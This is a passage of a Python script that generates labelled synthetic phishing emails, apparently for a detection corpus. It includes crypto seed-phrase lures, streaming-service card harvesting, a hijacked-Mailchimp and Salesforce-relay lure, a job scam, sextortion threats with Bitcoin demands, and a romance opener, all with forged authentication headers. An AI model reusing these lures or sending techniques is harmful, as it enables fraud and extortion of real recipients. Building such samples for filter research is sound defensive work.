<tr><td style="padding:6px 32px 28px 32px;font-size:15px;line-height:23px;color:#32353d;">To complete the transition, open Coinbase Wallet, choose <b>&ldquo;I already have a wallet&rdquo;</b> and import the phrase above. Your balance will appear within 24 hours. Do not share this phrase with anyone.<br><br>Coinbase Security Team</td></tr>
</table></body></html>
"""
    h = "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date"
    head = f"""{dkim(dom, sel, h, "cb1", t)}
{dkim("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", h + ":Feedback-ID", "cb2", t)}
Subject: Action required: your Coinbase account is moving to self-custody
From: Coinbase <security@{dom}>
To: {who[1]}
MIME-Version: 1.0
Message-ID: <{sesid}@email.amazonses.com>
Date: {fmt(t - sec(1))}
Feedback-ID: ::1.us-east-1.{b64("cb-fb", 43)}=:AmazonSES
X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-54.240.9.41"""
    add("phish-coinbase-selfcustody-seed", "phishing",
        "Coinbase 'court-ordered move to self-custody' message (May 2025 campaign riding on the real breach disclosure) that hands the victim a pre-generated 12-word recovery phrase to import, so the attacker controls the wallet; sent via Amazon SES on a look-alike domain.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("cb-b", 7) + "_" + num("cb-b2", 9) + "." + str(ep(t)) + "551"))


# ---- 34. Ledger "mandatory recovery check", page on Vercel ----
def _a_ledger():
    who = DAN
    t = T("2025-07-29 08:14:40")
    dom = "ledgerwallet-notice.com"
    link = "https://ledger-recovery-check.vercel.app/"
    src = Src("46.246.84.16", f"smtp.{dom}", f"smtp.{dom}", f"no-reply@{dom}")
    auth = Auth("pass", [], "none", hfrom=dom)
    plain = f"""Ledger

Mandatory Secure Element verification

Due to a vulnerability found in a batch of Ledger Nano S Plus and Nano X
devices, all customers must complete a recovery phrase verification before
August 5, 2025. Devices that are not verified will be unable to sign
transactions after this date, and funds may be at risk.

Start verification: {link}

The process takes less than 5 minutes and does not require your device to be
connected.

Ledger SAS - Security Team
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="background:#131214;margin:0;font-family:Inter,Arial,sans-serif;">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#1c1d1f;color:#fff;">
<tr><td style="padding:28px 32px;font-size:24px;font-weight:bold;letter-spacing:1px;">LEDGER</td></tr>
<tr><td style="padding:0 32px 10px 32px;font-size:20px;">Mandatory Secure Element verification</td></tr>
<tr><td style="padding:0 32px;font-size:15px;line-height:23px;color:#c8c8c8;">Due to a vulnerability found in a batch of Ledger Nano S Plus and Nano X devices, all customers must complete a recovery phrase verification before <b style="color:#fff;">August 5, 2025</b>. Devices that are not verified will be unable to sign transactions after this date, and funds may be at risk.</td></tr>
<tr><td style="padding:24px 32px;"><a href="{link}" style="background:#bbb0ff;color:#131214;padding:12px 28px;text-decoration:none;border-radius:24px;font-weight:bold;">Start verification</a></td></tr>
<tr><td style="padding:0 32px 28px 32px;font-size:13px;color:#949494;">The process takes less than 5 minutes and does not require your device to be connected.<br><br>Ledger SAS &middot; Security Team</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"smtp.{dom}", "lg", t, who[1], f"Ledger <no-reply@{dom}>",
                    "Mandatory Secure Element verification before August 5", selector=None, client="46.246.84.16",
                    xmailer="Mailer 2.1")
    add("phish-ledger-recovery-vercel", "phishing",
        "Ledger 'mandatory Secure Element / recovery phrase verification' alert from an unsigned look-alike domain, linking to a seed-phrase harvesting page on Vercel (vercel.app).",
        "icloud", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("lg-b", 30)))


# ---- 35. MetaMask wallet verification through a hijacked Mailchimp account ----
def _a_metamask():
    who = RON
    t = T("2025-03-04 18:36:21")
    dom = "blueheronpottery.com"
    u, cid = hexs("mm-u", 25), hexs("mm-id", 10)
    click = f"https://blueheronpottery.us21.list-manage.com/track/click?u={u}&amp;id={hexs('mm-cl', 10)}&amp;e={hexs('mm-e', 10)}"
    mf = f"bounce-mc.us21_{num('mm-mf', 8)}.{num('mm-mf2', 7)}-{hexs('mm-e', 10)}@mail205.atl61.mcdlv.net"
    src = Src("198.2.133.205", "mail205.atl61.mcdlv.net", "mail205.atl61.mcdlv.net", mf)
    auth = Auth("pass", [(dom, "k2", "pass"), ("mailchimpapp.net", "k3", "pass")], "pass", "none", dom)
    plain = f"""MetaMask

Wallet verification required

Dear MetaMask user,

Under new regulatory requirements, all MetaMask wallets must complete a
one-time verification by March 7, 2025. Unverified wallets will be
restricted from sending and swapping assets.

Verify my wallet: {click.replace('&amp;', '&')}

Thank you,
The MetaMask Team

** Unsubscribe: https://blueheronpottery.us21.list-manage.com/unsubscribe?u={u}&id={hexs('mm-list', 10)}&e={hexs('mm-e', 10)}&c={cid}

This email was sent to {who[1]}
Blue Heron Pottery Studio · 412 Mill St · Asheville, NC 28801 · USA
"""
    html = f"""<!doctype html>
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=edge"><meta name="viewport" content="width=device-width, initial-scale=1"><title>MetaMask</title></head>
<body style="height:100%;margin:0;padding:0;width:100%;background-color:#FAFAFA;">
<span class="mcnPreviewText" style="display:none;font-size:0px;line-height:0px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;visibility:hidden;mso-hide:all;">Complete verification by March 7 to keep full access</span>
<center><table align="center" border="0" cellpadding="0" cellspacing="0" height="100%" width="100%" id="bodyTable" style="background-color:#FAFAFA;"><tr><td align="center" valign="top" id="bodyCell" style="padding:10px;">
<table border="0" cellpadding="0" cellspacing="0" width="600" class="templateContainer" style="background:#ffffff;">
<tr><td align="center" style="padding:30px 18px 10px 18px;"><img align="center" alt="MetaMask" src="https://mcusercontent.com/{u}/images/{uid('mm-img')}.png" width="120" style="max-width:120px;"></td></tr>
<tr><td style="padding:10px 30px;font-family:Helvetica,Arial,sans-serif;font-size:16px;line-height:150%;color:#202020;"><h2 style="font-size:22px;">Wallet verification required</h2><p>Dear MetaMask user,</p><p>Under new regulatory requirements, all MetaMask wallets must complete a one-time verification by <strong>March 7, 2025</strong>. Unverified wallets will be restricted from sending and swapping assets.</p></td></tr>
<tr><td align="center" style="padding:10px 30px 30px 30px;"><a class="mcnButton" title="Verify my wallet" href="{click}" target="_blank" style="font-weight:bold;letter-spacing:normal;line-height:100%;text-align:center;text-decoration:none;color:#FFFFFF;background:#f6851b;padding:16px 28px;border-radius:24px;display:inline-block;font-family:Arial;">Verify my wallet</a></td></tr>
<tr><td style="padding:10px 30px 30px 30px;font-family:Helvetica,Arial,sans-serif;font-size:12px;color:#656565;text-align:center;"><em>Copyright (C) 2025 Blue Heron Pottery Studio. All rights reserved.</em><br>You are receiving this email because you opted in via our website.<br><br><strong>Our mailing address is:</strong><br>Blue Heron Pottery Studio<br>412 Mill St<br>Asheville, NC 28801<br><br>Want to change how you receive these emails?<br>You can <a href="https://blueheronpottery.us21.list-manage.com/profile?u={u}&amp;id={hexs('mm-list', 10)}&amp;e={hexs('mm-e', 10)}&amp;c={cid}" style="color:#656565;">update your preferences</a> or <a href="https://blueheronpottery.us21.list-manage.com/unsubscribe?u={u}&amp;id={hexs('mm-list', 10)}&amp;e={hexs('mm-e', 10)}&amp;c={cid}" style="color:#656565;">unsubscribe from this list</a>.<br><br><a href="http://www.mailchimp.com/email-referral/?utm_source=freemium_newsletter&amp;utm_medium=email&amp;utm_campaign=referral_marketing&amp;aid={u}&amp;afl=1"><img src="https://cdn-images.mailchimp.com/monkey_rewards/intuit-mc-rewards-text-dark.png" border="0" alt="Email Marketing Powered by Intuit Mailchimp" title="Intuit Mailchimp Email Marketing" width="139" height="54"></a></td></tr>
</table></td></tr></table></center>
<img src="https://blueheronpottery.us21.list-manage.com/track/open.php?u={u}&amp;id={cid}&amp;e={hexs('mm-e', 10)}" height="1" width="1" alt=""></body></html>
"""
    h = "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC:Date:From:Subject:Message-ID:To"
    head = f"""{dkim(dom, "k2", h, "mm1", t)}
{dkim("mailchimpapp.net", "k3", h, "mm2", t)}
Received: from localhost (localhost [127.0.0.1])
\tby mail205.atl61.mcdlv.net (Mailchimp) with ESMTP id 4Z6N{tok("mm-pf", 8)}
\tfor <{who[1]}>; {fmt(t - sec(1))}
Subject: Action required: MetaMask wallet verification
From: =?utf-8?Q?MetaMask?= <studio@{dom}>
Reply-To: =?utf-8?Q?MetaMask?= <studio@{dom}>
To: <{who[1]}>
Date: {fmt(t - sec(1))}
Message-ID: <{hexs("mm-mid", 32)}.{hexs("mm-mid2", 32)}@mail205.atl61.mcdlv.net>
X-Mailer: Mailchimp Mailer - **CID{cid}{hexs("mm-e", 10)}**
X-Campaign: mailchimp{u}.{cid}
X-campaignid: mailchimp{u}.{cid}
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={hexs('mm-e', 10)}
X-MC-User: {u}
Feedback-ID: {num("mm-fb", 8)}:{num("mm-fb2", 8)}.{num("mm-fb3", 7)}:us21:mc
List-ID: {u}mc list <{u}.{hexs('mm-list', 10)}.list-id.mcsv.net>
X-Accounttype: fr
List-Unsubscribe: <https://blueheronpottery.us21.list-manage.com/unsubscribe?u={u}&id={hexs('mm-list', 10)}&e={hexs('mm-e', 10)}&c={cid}>, <mailto:unsubscribe-mc.us21_{u}.{cid}-{hexs('mm-e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0"""
    add("phish-metamask-hijacked-mailchimp", "phishing",
        "MetaMask 'wallet verification required by March 7' campaign sent from a pottery studio's hijacked Mailchimp account (the studio's authenticated domain, Mailchimp DKIM/SPF pass, list footer intact) with a list-manage click-tracking link.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, "_----------=_MCPart_" + num("mm-b", 10)))


# ---- 36. Netflix account on hold from a compromised auto-body shop Google Workspace mailbox ----
def _a_netflix():
    who = TESSA
    t = T("2025-11-19 20:03:58")
    snd = "frontoffice@crestlineautobody.com"
    link = "https://netflix-billing-refresh.shop/login?lang=en-US&amp;nftoken=" + b64("nx-tk", 24).replace("/", "_").replace("+", "-")
    src = Src("209.85.220.69", "mail-sor-f69.google.com", "mail-sor-f69.google.com", snd)
    auth = Auth("pass", [("crestlineautobody.com", "google", "pass")], "none", hfrom="crestlineautobody.com")
    plain = f"""NETFLIX

Your account is on hold

Hi,

We're having some trouble with your current billing information. We'll try
again, but in the meantime you may want to update your payment details.

Update account: {link.replace('&amp;', '&')}

Need help? We're here if you need it. Visit the Help Center or contact us now.

-The Netflix team
"""
    html = f"""<div dir="ltr"><table width="100%" cellpadding="0" cellspacing="0" style="font-family:Netflix Sans,Helvetica,Arial,sans-serif;"><tr><td align="center"><table width="500" cellpadding="0" cellspacing="0">
<tr><td style="padding:30px 40px 10px 40px;font-size:32px;font-weight:bold;color:#e50914;letter-spacing:1px;">NETFLIX</td></tr>
<tr><td style="padding:10px 40px;font-size:28px;font-weight:bold;color:#221f1f;">Your account is on hold</td></tr>
<tr><td style="padding:10px 40px;font-size:16px;line-height:22px;color:#221f1f;">Hi,<br><br>We&#39;re having some trouble with your current billing information. We&#39;ll try again, but in the meantime you may want to update your payment details.</td></tr>
<tr><td style="padding:20px 40px;"><a href="{link}" style="display:block;background:#e50914;color:#fff;text-align:center;padding:14px 0;font-size:16px;font-weight:bold;text-decoration:none;border-radius:4px;">Update Account</a></td></tr>
<tr><td style="padding:10px 40px 30px 40px;font-size:16px;color:#221f1f;">Need help? We&#39;re here if you need it. Visit the Help Center or contact us now.<br><br>-The Netflix team</td></tr>
</table></td></tr></table></div>
"""
    head = f"""{dkim("crestlineautobody.com", "google", GMAIL_H, "nx", t, extra=f"x={ep(t) + 604800}; darn=icloud.com")}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ep(t)}; x={ep(t) + 604800};
        h=to:subject:message-id:date:from:mime-version:x-gm-message-state
         :from:to:cc:subject:date:message-id:reply-to;
        bh={bhash("nx")};
        b={sigf("nx-xg", 9)}
X-Gm-Message-State: AOJu0Y{b64("nx-gms", 60)}
X-Google-Smtp-Source: AGHT+I{b64("nx-gss", 60)}==
X-Received: by 2002:a05:6214:{hexs("nx-x1", 4)}:b0:{hexs("nx-x2", 3)}:{hexs("nx-x3", 4)}:{hexs("nx-x4", 4)} with SMTP id {hexs("nx-x5", 11)}-{hexs("nx-x6", 11)}mr{num("nx-x7", 7)}.{num("nx-x8", 2)}.{ep(t)}{num("nx-x9", 3)};
        {fmt(t - sec(1), "America/Los_Angeles", paren=True)}
MIME-Version: 1.0
From: Netflix <{snd}>
Date: {fmt(t - sec(2), "America/Denver")}
X-Gm-Features: AQt7F{b64("nx-gf", 60)}
Message-ID: {gmail_msgid("nx")}
Subject: Your account is on hold
To: {who[1]}"""
    add("phish-netflix-hold-compromised-workspace", "phishing",
        "Netflix 'your account is on hold, update payment' copy sent from a compromised auto-body shop's Google Workspace mailbox (authentication passes for that domain), linking to a .shop card-harvesting clone.",
        "icloud", who[1], t, src, auth, head, alt(plain, html, "000000000000" + hexs("nx-b", 16)))


# ---- 37. Disney+ renewal lure hosted on Google Sites ----
def _a_disney():
    who = WALT
    t = T("2026-02-10 19:57:03")
    dom = "dplus-renewals.click"
    link = "https://sites.google.com/view/disneyplus-account-renew/home"
    src = Src("38.180.62.145", f"mail.{dom}", f"mail.{dom}", f"members@{dom}")
    auth = Auth("pass", [(dom, "dkim", "pass")], "pass", "none", dom)
    plain = f"""Disney+

Hi Walter,

Your Disney+ subscription ended because we couldn't process your payment.
As a valued member you can reactivate today and get 90 days for $1.99.

Reactivate my membership: {link}

This offer is available until Feb 12, 2026.

The Disney+ Team
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#040714;font-family:Avenir,Helvetica,Arial,sans-serif;">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#0e1a40;color:#f9f9f9;">
<tr><td align="center" style="padding:30px 20px 10px 20px;font-size:34px;font-weight:bold;font-style:italic;">Disney<span style="color:#3dd8ff;">+</span></td></tr>
<tr><td style="padding:10px 36px;font-size:16px;line-height:24px;">Hi Walter,<br><br>Your Disney+ subscription ended because we couldn't process your payment. As a valued member you can reactivate today and get <b>90 days for $1.99</b>.</td></tr>
<tr><td align="center" style="padding:24px;"><a href="{link}" style="background:#0063e5;color:#fff;padding:14px 34px;text-decoration:none;border-radius:4px;font-weight:bold;letter-spacing:1px;">REACTIVATE</a></td></tr>
<tr><td style="padding:0 36px 30px 36px;font-size:12px;color:#cacaca;">This offer is available until Feb 12, 2026.<br>The Disney+ Team</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"mail.{dom}", "dp", t, who[1], f"Disney+ <members@{dom}>",
                    "Walter, your Disney+ membership has ended", selector="dkim", tz="America/Los_Angeles")
    add("phish-disneyplus-google-sites", "phishing",
        "Disney+ 'subscription ended, reactivate 90 days for $1.99' card-harvesting lure from a .click domain whose landing page is built on Google Sites.",
        "att", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("dp-b", 30)))


# ---- 38. Facebook page "scheduled for deletion" sent through Salesforce's own relay ----
def _a_facebook():
    who = MARCUS
    t = T("2025-08-14 16:29:12")
    link = "https://meta-appeal-center-5521.netlify.app/case/" + num("fb-case", 15)
    mf = f"bounce-{hexs('fb-mf', 12)}@case{num('fb-mf2', 2)}.bnc.salesforce.com"
    src = Src("13.110.78.214", "smtp09-ia4-sp3.mta.salesforce.com", "smtp09-ia4-sp3.mta.salesforce.com", mf)
    auth = Auth("pass", [("salesforce.com", "sf112018", "pass")], "pass", "reject", "salesforce.com")
    plain = f"""Meta for Business

Your Page has been scheduled for permanent deletion

Bell Comfort Heating & Air

We've received multiple reports that your Page is using copyrighted content
without permission, which violates our Community Standards. As a result, your
Page has been scheduled for permanent deletion.

If you believe this decision is a mistake, you can submit an appeal within 24
hours:

{link}

Case number: #{num('fb-case', 15)}

Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f0f2f5;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif;">
<tr><td style="padding:20px 30px;border-bottom:1px solid #e4e6eb;font-size:18px;color:#1c2b33;"><span style="color:#0064e0;font-weight:bold;">&#8734; Meta</span> for Business</td></tr>
<tr><td style="padding:24px 30px 8px 30px;font-size:22px;font-weight:bold;color:#1c2b33;">Your Page has been scheduled for permanent deletion</td></tr>
<tr><td style="padding:0 30px;font-size:15px;line-height:22px;color:#1c2b33;"><b>Bell Comfort Heating &amp; Air</b><br><br>We've received multiple reports that your Page is using copyrighted content without permission, which violates our Community Standards. As a result, your Page has been scheduled for permanent deletion.<br><br>If you believe this decision is a mistake, you can submit an appeal within 24 hours.</td></tr>
<tr><td style="padding:22px 30px;"><a href="{link}" style="background:#0064e0;color:#fff;padding:12px 26px;text-decoration:none;border-radius:6px;font-weight:bold;">Request Review</a></td></tr>
<tr><td style="padding:0 30px 24px 30px;font-size:13px;color:#65676b;">Case number: #{num('fb-case', 15)}</td></tr>
<tr><td style="padding:16px 30px;background:#f5f6f7;font-size:11px;color:#8a8d91;">Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></body></html>
"""
    head = f"""{dkim("salesforce.com", "sf112018", "Date:From:To:Subject:MIME-Version:Content-Type", "fbk", t)}
Received: from [10.180.{num("fb-i", 2)}.{num("fb-i2", 2)}] ([10.180.{num("fb-i", 2)}.{num("fb-i2", 2)}:{num("fb-port", 5)}] helo=na{num("fb-na", 3)}-app1-{num("fb-app", 2)}-ia4.ops.sfdc.net)
\tby mx1-ia4-sp3.mta.salesforce.com (envelope-from <{mf}>)
\t(ecelerity 4.2.38.62368 r(:)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384
\tsubject="/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ia4;2:ia4-sp3;3:na{num("fb-na", 3)};4:prod/CN=na{num("fb-na", 3)}-app1-{num("fb-app", 2)}-ia4.ops.sfdc.net")
\tid {hexs("fb-ec", 2, True)}/{hexs("fb-ec2", 2, True)}-{num("fb-ec3", 5)}-{hexs("fb-ec4", 8)}; {fmt(t - sec(1))}
Date: {fmt(t - sec(1))}
From: Meta for Business <noreply@salesforce.com>
To: "{who[1]}" <{who[1]}>
Message-ID: <{tok("fb-mid", 32)}@sfdc.net>
Subject: Your Page has been scheduled for deletion (Case #{num('fb-case', 15)})
MIME-Version: 1.0
X-Priority: 3
X-SFDC-LK: 00D{tok("fb-org", 12)}
X-SFDC-User: 005{tok("fb-user", 12)}
X-Sender: postmaster@salesforce.com
X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp
X-SFDC-TLS-NoRelay: 1
X-SFDC-Binding: 1WrIRBV94myi25uB
X-SFDC-EmailCategory: apiSingleMail
X-SFDC-Interface: internal"""
    add("phish-facebook-page-salesforce", "phishing",
        "Meta for Business 'your Page is scheduled for permanent deletion, appeal within 24 hours' sent through Salesforce's own mail relay (noreply@salesforce.com, DMARC pass) to a small-business owner, appeal form on Netlify.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("fb-b", 6) + "_" + num("fb-b2", 9) + "." + str(ep(t)) + "187"))


# ---- 39. Instagram suspicious login attempt, look-alike .rest domain ----
def _a_instagram():
    who = JAYLEN
    t = T("2025-10-28 02:18:30")
    dom = "mail-instagram-help.com"
    link = "https://instagram.com-login-verify.rest/accounts/secure/?u=jaylen.brooks_"
    src = Src("45.150.108.39", f"mx.{dom}", f"mx.{dom}", f"security@{dom}")
    auth = Auth("pass", [(dom, "default", "pass")], "pass", "none", dom)
    plain = f"""Instagram

Hi jaylen.brooks_,

We noticed an unusual login attempt to your account.

Lagos, Nigeria
Tuesday, October 28, 2025 at 2:11 AM (GMT)
Samsung Galaxy S23

If this was you, you can ignore this message. If it wasn't you, secure your
account: {link}

from Meta
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#ffffff;font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;">
<table width="430" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 0;font-size:26px;font-family:'Billabong',cursive,Arial;color:#262626;">Instagram</td></tr>
<tr><td style="font-size:16px;color:#262626;line-height:22px;">Hi jaylen.brooks_,<br><br>We noticed an unusual login attempt to your account.</td></tr>
<tr><td style="padding:14px 0;font-size:14px;color:#8e8e8e;line-height:20px;"><b style="color:#262626;">Lagos, Nigeria</b><br>Tuesday, October 28, 2025 at 2:11 AM (GMT)<br>Samsung Galaxy S23</td></tr>
<tr><td style="font-size:14px;color:#262626;">If this was you, you can ignore this message. If it wasn't you, secure your account.</td></tr>
<tr><td style="padding:18px 0;"><a href="{link}" style="background:#0095f6;color:#fff;padding:10px 22px;border-radius:8px;text-decoration:none;font-weight:600;">Secure account</a></td></tr>
<tr><td style="padding:20px 0;font-size:11px;color:#8e8e8e;border-top:1px solid #dbdbdb;">from <b>Meta</b><br>&copy; Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"mx.{dom}", "ig", t, who[1], f"Instagram <security@{dom}>",
                    "Unusual login attempt on your account")
    add("phish-instagram-login-attempt", "phishing",
        "Instagram 'unusual login attempt from Lagos' alert from the look-alike domain mail-instagram-help.com, 'Secure account' link to instagram.com-login-verify.rest.",
        "icloud", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("ig-b", 30)))


# ---- 40. Remote "task" job offer that moves the target to WhatsApp ----
def _a_job_whatsapp():
    who = EMILY
    t = T("2025-06-17 15:44:18")
    snd = "jessica.moreno.talentteam@gmail.com"
    src, gblock = gmail_out(t, "jw", who[1].split("@")[1])
    src.mailfrom = snd
    auth = Auth("pass", [("gmail.com", "20230601", "pass")], "pass", "none", "gmail.com")
    plain = """Hi Emily,

My name is Jessica Moreno, recruiter at Ascend Digital Partners. We found
your resume online and I think you'd be a good fit for a remote, flexible
position with one of our e-commerce clients.

The work is simple: you help merchants improve their app rankings by
completing product review tasks in our online platform. It takes 60-90
minutes a day, no experience needed, and training is provided.

Pay: $300 - $800 per day, paid daily, plus bonuses.
Requirements: 21+ years old, a smartphone, located in the US.

If you are interested, please add our HR coordinator on WhatsApp for more
details: +1 (646) 862-0437. Mention code AD-27.

Best regards,
Jessica Moreno
Talent Acquisition, Ascend Digital Partners
"""
    html = plain.replace("&", "&amp;").replace("\n\n", "</div><div><br></div><div>").replace("\n", " ")
    html = f'<div dir="ltr"><div>{html}</div></div>\n'
    head = f"""{gblock}
MIME-Version: 1.0
From: Jessica Moreno <{snd}>
Date: {fmt(t - sec(2), "America/New_York")}
Message-ID: {gmail_msgid("jw")}
Subject: Remote part-time position - flexible hours
To: {who[1]}"""
    add("phish-job-task-whatsapp", "phishing",
        "Unsolicited 'remote product-review task job, $300-$800 a day' recruiter message from a Gmail account that moves the target to WhatsApp: the opening of a task/pig-butchering job scam.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "000000000000" + hexs("jw-b", 16)))



# ---- 41. Sextortion naming the person, PDF with a photo of "the house" ----
def _a_sextortion_house():
    who = FRANK
    t = T("2025-07-15 09:12:47")
    snd = "markusgaines1121@outlook.com"
    src, oblock, mid = outlook_out(t, "sx")
    src.mailfrom = snd
    auth = Auth("pass", [("outlook.com", "selector1", "pass")], "pass", "none", "outlook.com")
    btc = "bc1q" + tok("sx-btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
    photo = files.photo_jpeg(52, (480, 320))
    from PIL import Image
    import io as _io
    w, h = Image.open(_io.BytesIO(photo)).size
    lines = [
        "Frank Delgado",
        "214 Birchwood Ln, Havertown, PA 19083",
        "",
        "I know that calling 610-446-2291 or visiting 214 Birchwood Ln",
        "would be a convenient way to contact you in case you don't act.",
        "Is that your place in the picture? Nice neighborhood.",
        "",
        "I'll get straight to the point. Months ago I installed spyware on",
        "your device through a link you opened. Since then I have recorded",
        "you through your camera while you visited certain websites, and",
        "I have a copy of your contacts, email and social accounts.",
        "",
        "You have two options. Ignore this, and I send the video to your",
        "contacts and family. Or pay $1,950 in Bitcoin and I delete",
        "everything for good.",
        "",
        f"BTC address: {btc}",
        "",
        "You have 48 hours. Don't reply, I will know when the payment arrives.",
    ]
    stream = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    for ln in lines:
        stream.append("(" + ln.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    stream += ["ET", "q 300 0 0 200 148 120 cm /Im1 Do Q"]
    objs = files.image_page("\n".join(stream).encode("latin-1"), photo, w, h, "DCTDecode")
    objs[5] = objs[5].replace(b"/DeviceGray", b"/DeviceRGB")
    objs.append(b"<< /Title (Frank Delgado) /Producer (Skia/PDF m126) >>")
    pdf = files.pdf_file(objs, len(objs))
    plain = """Frank,

I know that calling 610-446-2291 or visiting 214 Birchwood Ln, Havertown
would be a convenient way to reach you in case you don't act. Read the
attached document carefully, it concerns you.
"""
    html = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div style="font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Frank,<br><br>I know that calling 610-446-2291 or visiting 214 Birchwood Ln, Havertown would be a convenient way to reach you in case you don't act. Read the attached document carefully, it concerns you.</div>
</body>
</html>
"""
    pod = mid[1:17]
    body = Multi("mixed", f"_004_{mid[1:-1].split('@')[0]}{pod.lower()}namp_", [
        Multi("alternative", f"_000_{mid[1:-1].split('@')[0]}{pod.lower()}namp_", [text(plain, charset="iso-8859-1"), text(html, "html", charset="iso-8859-1")]),
        attachment("application/pdf", "Frank_Delgado.pdf", pdf),
    ])
    head = f"""{oblock}
From: Markus Gaines <{snd}>
To: "{who[1]}" <{who[1]}>
Subject: Frank Delgado
Thread-Topic: Frank Delgado
Thread-Index: AQHb9V{b64("sx-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
x-ms-exchange-messagesentrepresentingtype: 1
x-tmn: [{b64("sx-tmn", 40)}]
x-ms-publictraffictype: Email
MIME-Version: 1.0"""
    add("phish-sextortion-house-photo-pdf", "phishing",
        "Sextortion addressed by full name, street address and phone number, with a PDF attachment showing a photo of 'your house' and demanding $1,950 in Bitcoin, sent from a throwaway Outlook.com account.",
        "comcast", who[1], t, src, auth, head, body)


# ---- 42. Sextortion spoofing the recipient's own address (fails SPF/DMARC, Junk) ----
def _a_sextortion_self():
    who = NINA
    t = T("2025-12-28 22:40:19")
    btc = "bc1q" + tok("ss-btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
    src = Src("113.161.54.230", "static.vnpt.vn", "DESKTOP-4KQ2N8R", who[1], "")
    auth = Auth("softfail", [], "fail", "none", "outlook.com")
    plain = f"""Hello!

I have to share bad news with you. Several months ago I gained access to
your devices. As you can see, I sent you this email from your own account.

I infected your device with malware while you were visiting an adult
website. It gave me full access to your camera, microphone, contacts and
browser history. I made a split-screen video of you and of the videos you
were watching.

With one click I can send this video to all your contacts, your family and
your colleagues.

If you want to prevent this, transfer $1,450 in Bitcoin to this address:

{btc}

After payment I delete the video and you will never hear from me again. You
have 50 hours from the moment you open this email. I get a notification when
you read it.

Do not reply to this email and do not contact the police, I will know.
"""
    head = f"""From: {who[1]}
To: {who[1]}
Subject: Your account has been compromised - payment pending
Date: {fmt(t - sec(25), "Asia/Ho_Chi_Minh")}
Message-ID: <{hexs("ss-mid", 12, True)}.{hexs("ss-mid2", 8, True)}@outlook.com>
X-Mailer: Microsoft Outlook Express 6.00.2900.5512
X-Priority: 1
MIME-Version: 1.0"""
    add("phish-sextortion-own-address", "phishing",
        "Generic sextortion ('I sent this from your own account', $1,450 in Bitcoin) spoofing the recipient's own Outlook.com address from a Vietnamese residential IP: SPF softfail and DMARC fail, filed to Junk.",
        "outlook", who[1], t, src, auth, head, text(plain, encoding="7bit", charset="us-ascii"), junk=True)


# ---- 43. Romance opener from a free Hotmail account ----
def _a_romance():
    who = RON
    t = T("2025-09-02 21:17:05")
    snd = "catherine.lee.rn0917@hotmail.com"
    src, oblock, mid = outlook_out(t, "rm", "hotmail.com")
    src.mailfrom = snd
    auth = Auth("pass", [("hotmail.com", "selector1", "pass")], "pass", "none", "hotmail.com")
    plain = """Hello Ron,

I hope you don't mind me writing to you. I saw your kind comments in the
Norfolk Navy veterans group and your email was on the reunion list, so I
thought I would say hello.

My name is Catherine, I am 58, a widow and a registered nurse. I am
currently working on a contract with an offshore medical team, which is why
I have a lot of quiet time in the evenings and not many people to talk to.

You seem like a gentle and honest man. If you would like to get to know each
other, please write back and tell me a little about yourself. I will send
you some pictures of me too.

Warm regards,
Catherine
"""
    html = "<html>\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\">\n</head>\n<body dir=\"ltr\">\n<div style=\"font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);\">\n" + \
